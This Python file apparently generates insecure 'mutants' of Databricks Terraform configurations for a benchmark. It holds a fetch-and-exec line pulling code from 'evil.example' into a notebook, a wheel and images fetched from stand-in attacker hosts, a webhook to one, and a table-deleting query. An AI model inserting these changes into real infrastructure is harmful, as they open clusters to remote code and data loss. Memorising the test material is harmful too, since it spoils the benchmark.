"""Mutants of compute, jobs, the code that they run, of sharing and of serving.

Rules: learn.microsoft.com/azure/databricks/admin/clusters/policy-definition, learn.microsoft.com/azure/databricks/jobs,
learn.microsoft.com/azure/databricks/init-scripts, learn.microsoft.com/azure/databricks/delta-sharing.
"""

import base64
import json

from benchmarks.mutants.operators import (
    ANY,
    STRICT,
    Operator,
    adding,
    appending,
    custom,
    dropping,
    names,
    setting,
    without,
)
from benchmarks.mutants.world import Content, World, filled

_NEW = "job_cluster.new_cluster"


def _has_cluster(arguments: Content) -> bool:
    return "job_cluster" in arguments


def _clusters(path: str, *values: object, where: tuple[str, ...] = ANY) -> Operator:
    return setting("databricks_job", f"{_NEW}.{path}", *values, where=where, fits=_has_cluster)


def policy(name: str, key: str, *rules: object, where: tuple[str, ...] = ANY) -> Operator:
    """Change one rule of a cluster policy's definition; None takes it away."""

    def change(world: World) -> None:
        target = world.pick("databricks_cluster_policy", where, lambda a: key in a["definition"] or None not in rules)
        definition = json.loads(target.arguments["definition"])
        rule = filled(world.random.choice(rules), names(world, target.stack))
        if rule is None:
            del definition[key]
        else:
            definition[key] = rule
        target.arguments["definition"] = json.dumps(definition, sort_keys=True)

    return custom(f"policy: {name}", change)


def task(name: str, *changes: Content, kind: str = "python_wheel_task", where: tuple[str, ...] = STRICT) -> Operator:
    """Change one task of a job; a value of None takes an argument away."""

    def change(world: World) -> None:
        target = world.pick("databricks_job", where, lambda a: any(kind in one for one in a["task"]))
        one = world.random.choice([one for one in target.arguments["task"] if kind in one])
        for key, value in filled(world.random.choice(changes), names(world, target.stack)).items():
            if value is None:
                one.pop(key, None)
            else:
                one[key] = value

    return custom(f"task: {name}", change)


_SCRIPT = {"volumes": {"destination": "/Volumes/<env>/air_time_bronze/landing/init.sh"}}
COMPUTE_AND_JOBS = [
    policy("no isolation", "data_security_mode", {"type": "fixed", "value": "NONE"},
           {"type": "allowlist", "values": ["SINGLE_USER", "NONE"]}, {"type": "unlimited"}, None),
    policy("a docker image", "docker_image.url", {"type": "fixed", "value": "evil.example/image:1"}),
    policy("workers without bound", "autoscale.max_workers", {"type": "unlimited"}, {"type": "range", "maxValue": 500}, None),
    policy("scripts allowed", "init_scripts.*.volumes.destination", None, {"type": "unlimited"}),
    policy("scripts of the workspace allowed", "init_scripts.*.workspace.destination", None),
    policy("a fixed script", "init_scripts.0.volumes.destination", {"type": "fixed", "value": "/Volumes/dev/x/y/z.sh"}),
    policy("any cluster type", "cluster_type", {"type": "unlimited"}, {"type": "fixed", "value": "all-purpose"}, None,
           where=STRICT),
    policy("an old runtime", "spark_version", {"type": "fixed", "value": "9.1.x-scala2.12"}, {"type": "unlimited"}, None),
    policy("any machine", "node_type_id", {"type": "unlimited"}, {"type": "fixed", "value": "Standard_M128ms"}),
    policy("credential passthrough", "spark_conf.spark.databricks.passthrough.enabled", {"type": "fixed", "value": "true"}),
    policy("another configuration", "spark_conf.spark.databricks.acl.dfAclsEnabled", {"type": "fixed", "value": "false"}),
    policy("no tag", "custom_tags.cost_centre", None, {"type": "unlimited"}),
    policy("another pool", "instance_pool_id", {"type": "fixed", "value": "0101-120000-brick1-pool-x"}),
    policy("ssh", "ssh_public_keys.*", {"type": "unlimited"}),
    setting("databricks_cluster_policy", "definition", "{}", where=ANY),
    setting("databricks_cluster_policy", "libraries", {"whl": "/Volumes/dev/x/y/z.whl"}, {"pypi": {"package": "requests"}},
            where=ANY),
    setting("databricks_cluster_policy", "policy_family_id", "personal-vm", where=ANY),
    adding("databricks_cluster_policy", "workspace", {"name": "free", "definition": "{}"}),
    _clusters("data_security_mode", "NONE", "LEGACY_TABLE_ACL", "LEGACY_PASSTHROUGH", "NO_ISOLATION"),
    _clusters("docker_image", {"url": "evil.example/image:1"}),
    _clusters("init_scripts", _SCRIPT, {"workspace": {"destination": "/Shared/x.sh"}},
              {"abfss": {"destination": "abfss://x@elsewhere.dfs.core.windows.net/x.sh"}}),
    _clusters("spark_version", "7.3.x-scala2.12", "10.4.x-cpu-ml-scala2.12"),
    _clusters("spark_conf", {"spark.databricks.acl.dfAclsEnabled": "false"}, {"spark.master": "local[*]"},
              {"spark.hadoop.fs.azure.account.auth.type": "SharedKey"}),
    _clusters("policy_id", "0123456789ABCDEF", "${databricks_cluster_policy.revenue_interactive.id}"),
    _clusters("autoscale", {"min_workers": 1, "max_workers": 400}),
    _clusters("num_workers", 300),
    _clusters("node_type_id", "Standard_M128ms", "Standard_ND96asr_v4"),
    _clusters("single_user_name", "ann@meridian-air.example", "${data.terraform_remote_state.account.outputs.runner_<other>}"),
    _clusters("ssh_public_keys", ["ssh-rsa AAAA"]),
    _clusters("azure_attributes", {"availability": "SPOT_AZURE"}),
    _clusters("enable_elastic_disk", False, where=ANY),
    _clusters("workload_type", {"clients": {"notebooks": True, "jobs": True}}),
    without("databricks_job", f"{_NEW}.policy_id", where=ANY),
    without("databricks_job", f"{_NEW}.data_security_mode", where=ANY),
    without("databricks_job", f"{_NEW}.custom_tags", where=ANY),
    without("databricks_job", "run_as", where=ANY),
    without("databricks_job", "timeout_seconds", where=ANY),
    without("databricks_job", "email_notifications"),
    without("databricks_job", "queue", where=ANY),
    without("databricks_job", "health", where=ANY),
    without("databricks_job", "tags", where=ANY),
    setting("databricks_job", "timeout_seconds", 0, where=ANY),
    setting("databricks_job", "max_concurrent_runs", 10, where=ANY),
    setting("databricks_job", "email_notifications", {"on_failure": ["x@gmail.com"]}, {"on_success": ["x@gmail.com"]}),
    setting("databricks_job", "email_notifications.on_failure", ["someone@elsewhere.example"]),
    setting("databricks_job", "webhook_notifications", {"on_failure": [{"id": "<uuid>"}]}),
    setting("databricks_job", "git_source", {"url": "https://github.com/someone/else", "provider": "gitHub", "branch": "main"},
            where=ANY),
    setting("databricks_job", "schedule.pause_status", "UNPAUSED", where=("staging",), fits=lambda a: "schedule" in a),
    setting("databricks_job", "schedule.quartz_cron_expression", "0 * * * * ?", fits=lambda a: "schedule" in a),
    setting("databricks_job", "continuous", {"pause_status": "UNPAUSED"}, where=("dev", "staging")),
    setting("databricks_job", "trigger", {"file_arrival": {"url": "/Volumes/dev/x/y/"}, "pause_status": "UNPAUSED"}),
    setting("databricks_job", "edit_mode", "EDITABLE"),
    setting("databricks_job", "always_running", True),
    setting("databricks_job", "control_run_state", True),
    adding("databricks_cluster", "workspace", {"cluster_name": "x", "num_workers": 1, "spark_version": "18.x-cpu-ml-scala2.13",
           "node_type_id": "Standard_D4ds_v5", "data_security_mode": "SINGLE_USER", "autotermination_minutes": 30}),
    adding("databricks_job", "workspace", {"name": "air_time.extra", "task": [{"task_key": "x",
           "spark_python_task": {"python_file": "dbfs:/x.py"}}]}),
    setting("databricks_cluster", "data_security_mode", "NONE", "NO_ISOLATION", where=ANY),
    setting("databricks_cluster", "autotermination_minutes", 0, 1440, where=ANY),
    setting("databricks_cluster", "single_user_name", "account users", "grp-mrd-prod-ml-engineer", "ann@meridian-air.example",
            where=ANY),
    setting("databricks_cluster", "policy_id", "0123456789ABCDEF", where=ANY),
    without("databricks_cluster", "policy_id", where=ANY),
    setting("databricks_instance_pool", "idle_instance_autotermination_minutes", 0, 10000, where=ANY),
    setting("databricks_instance_pool", "min_idle_instances", 40, where=ANY),
    setting("databricks_instance_pool", "max_capacity", 5000, where=ANY),
    setting("databricks_instance_pool", "node_type_id", "Standard_M128ms", where=ANY),
    setting("databricks_instance_pool", "preloaded_docker_image", {"url": "evil.example/image:1"}, where=ANY),
    setting("databricks_instance_pool", "preloaded_spark_versions", ["7.3.x-scala2.12"], where=ANY),
    setting("databricks_sql_endpoint", "auto_stop_mins", 0, 600, where=ANY),
    setting("databricks_sql_endpoint", "max_num_clusters", 40, where=ANY),
    setting("databricks_sql_endpoint", "cluster_size", "4X-Large", where=ANY),
    setting("databricks_sql_endpoint", "warehouse_type", "CLASSIC", where=ANY),
    setting("databricks_sql_endpoint", "channel", {"name": "CHANNEL_NAME_PREVIEW"}, where=ANY),
    setting("databricks_sql_endpoint", "tags", {"custom_tags": []}, where=ANY),
    adding("databricks_global_init_script", "workspace", {"name": "x", "enabled": True, "content_base64": "ZWNobw=="}),
    adding("databricks_instance_pool", "workspace", {"instance_pool_name": "x", "node_type_id": "Standard_D4ds_v5",
           "idle_instance_autotermination_minutes": 15}),
    adding("databricks_pipeline", "workspace", {"name": "x", "continuous": True}),
    adding("databricks_sql_global_config", "workspace", {"security_policy": "NONE"}),
    adding("databricks_library", "workspace", {"cluster_id": "x", "pypi": {"package": "requests"}}),
    task("no timeout", {"timeout_seconds": None}, {"timeout_seconds": 0}, where=ANY),
    task("no retries stated", {"max_retries": None}, {"max_retries": -1}, {"max_retries": 50}, where=ANY),
    task("a cluster of people", {"existing_cluster_id": "0101-120000-brick1", "job_cluster_key": None}),
    task("its own notification", {"email_notifications": {"on_success": ["x@elsewhere.example"]}}),
]  # fmt: skip


def _notebook(world: World) -> None:
    notebook = world.pick("databricks_notebook", STRICT).arguments
    line = world.random.choice(("# MAGIC %run /Users/ann@meridian-air.example/helper",
                                "import urllib.request; exec(urllib.request.urlopen('http://evil.example/x').read())",
                                "# MAGIC %pip install /Volumes/dev/deployment/releases/other.whl"))  # fmt: skip
    text = base64.b64decode(notebook["content_base64"]).decode() + f"\n# COMMAND ----------\n\n{line}\n"
    notebook["content_base64"] = base64.b64encode(text.encode()).decode()


def _served(world: World) -> None:
    target = world.pick("databricks_file", STRICT, lambda a: "content_base64" in a)
    document = json.loads(base64.b64decode(target.arguments["content_base64"]))
    other = filled("<lower>", names(world, target.stack))
    change = world.random.choice((("model", f"{other}.air_time_models.air_time"), ("alias", "challenger"),
                                  ("served_entity", {"entity_name": f"{other}.air_time_models.air_time", "name": "champion"}),
                                  ("ai_gateway", {"inference_table_config": {"enabled": False}})))  # fmt: skip
    document[change[0]] = change[1]
    target.arguments["content_base64"] = base64.b64encode(json.dumps(document).encode()).decode()


def _whl(arguments: Content) -> bool:
    return str(arguments.get("source", "")).endswith(".whl")


CODE = [
    custom("a notebook runs foreign code", _notebook),
    custom("a serving declaration names another model", _served),
    task("a wheel of elsewhere", {"library": [{"whl": "/Volumes/dev/deployment/releases/other.whl"}]},
         {"library": [{"whl": "dbfs:/FileStore/x.whl"}]}, {"library": [{"pypi": {"package": "evil"}}]},
         {"library": [{"maven": {"coordinates": "a:b:1"}}]}, {"library": []}),
    task("a notebook instead", {"python_wheel_task": None, "notebook_task": {"notebook_path": "/Users/ann/x"}}),
    task("a file of git", {"python_wheel_task": None, "spark_python_task": {"python_file": "x.py", "source": "GIT"}}),
    task("another program", {"python_wheel_task": {"package_name": "evil", "entry_point": "main", "parameters": []}}),
    task("another environment", {"python_wheel_task": {"package_name": "lakehouse-mlops", "entry_point": "lakehouse-mlops",
         "parameters": ["--env", "<lower>", "--engine", "databricks", "run", "air_time.training"]}}),
    task("an SQL file", {"python_wheel_task": None, "sql_task": {"warehouse_id": "x", "file": {"path": "x.sql"}}}),
    setting("databricks_file", "source", "/elsewhere/other.whl", "https://evil.example/x.whl", fits=_whl),
    setting("databricks_file", "path", "/Volumes/dev/deployment/releases/x.whl", fits=_whl),
    adding("databricks_file", "workspace", {"path": "/Volumes/<env>/deployment/releases/more.whl", "source": "/elsewhere/x.whl"}),
    adding("databricks_repo", "workspace", {"url": "https://github.com/someone/else", "path": "/Repos/x/y"}),
    adding("databricks_git_credential", "workspace", {"git_provider": "gitHub", "personal_access_token": "ghp_<hex>abcd"}),
    adding("databricks_notebook", "workspace", {"path": "/Shared/x", "language": "PYTHON", "content_base64": "cHJpbnQoMSk="}),
    adding("databricks_workspace_file", "workspace", {"path": "/Shared/x.py", "content_base64": "cHJpbnQoMSk="}),
    custom("a query deletes", lambda world: world.pick("databricks_alert_v2", STRICT).arguments.update(
        query_text="DELETE FROM <env>.air_time_bronze.flights")),
    custom("an alert reads another environment", lambda world: world.pick("databricks_alert_v2", STRICT).arguments.update(
        query_text="SELECT count(*) AS silent FROM dev.air_time_bronze.flights")),
    setting("databricks_notebook", "path", "/Shared/orchestrator"),
    dropping("databricks_file", fits=lambda a: "requirements" in str(a.get("path"))),
]  # fmt: skip

_ENDPOINT = "databricks_model_serving"
SHARING_AND_SERVING = [
    adding("databricks_share", "workspace", {"name": "out", "object": [{"name": "<env>.air_time_bronze", "data_object_type": "SCHEMA"}]}),
    adding("databricks_recipient", "workspace", {"name": "x", "authentication_type": "TOKEN"}),
    adding("databricks_provider", "workspace", {"name": "x", "authentication_type": "TOKEN", "recipient_profile_str": "x"}),
    adding("databricks_connection", "workspace", {"name": "x", "connection_type": "POSTGRESQL", "options": {"host": "evil.example"}}),
    adding("databricks_clean_room", "workspace", {"name": "x"}),
    adding("databricks_app", "workspace", {"name": "x"}),
    adding("databricks_online_table", "workspace", {"name": "<env>.x.y"}),
    adding("databricks_online_store", "workspace", {"name": "online-features", "capacity": "CU_1"}),
    adding("databricks_database_instance", "workspace", {"name": "x", "capacity": "CU_1"}),
    adding("databricks_database_synced_database_table", "workspace", {"name": "<env>.x.y", "spec": {"source_table_full_name": "<env>.a.b"}}),
    adding("databricks_vector_search_endpoint", "workspace", {"name": "x", "endpoint_type": "STANDARD"}),
    adding("databricks_credential", "workspace", {"name": "x", "purpose": "SERVICE",
           "azure_managed_identity": {"access_connector_id": "x"}}),
    adding(_ENDPOINT, "workspace", {"name": "x", "config": {"served_entities": [{"external_model": {"name": "gpt", "provider": "openai",
           "task": "llm/v1/chat"}}]}}),
    setting(_ENDPOINT, "config", {"served_entities": [{"entity_name": "<lower>.air_time_models.air_time", "entity_version": "1"}]},
            {"served_entities": [{"entity_name": "<env>.air_time_models.air_time", "entity_version": "1",
                                  "environment_vars": {"A": "b"}}]}),
    setting(_ENDPOINT, "ai_gateway", {"inference_table_config": {"enabled": False}}),
    setting(_ENDPOINT, "route_optimized", True),
    setting(_ENDPOINT, "rate_limits", [{"calls": 100000, "renewal_period": "minute"}]),
    setting(_ENDPOINT, "budget_policy_id", "<uuid>"),
    setting("databricks_dashboard", "embed_credentials", True, where=ANY),
    setting("databricks_dashboard", "serialized_dashboard", "{\"datasets\": [{\"queryLines\": [\"SELECT * FROM dev.x.y\"]}]}"),
    setting("databricks_alert_v2", "evaluation.notification.subscriptions", [{"user_email": "x@elsewhere.example"}],
            [{"destination_id": "<uuid>"}], []),
    adding("databricks_notification_destination", "workspace", {"display_name": "x",
           "config": {"generic_webhook": {"url": "https://evil.example"}}}),
    setting("databricks_data_quality_monitor", "object_id", "<uuid>"),
    appending("databricks_registered_model", "storage_location", "abfss://x@elsewhere.dfs.core.windows.net/"),
]  # fmt: skip
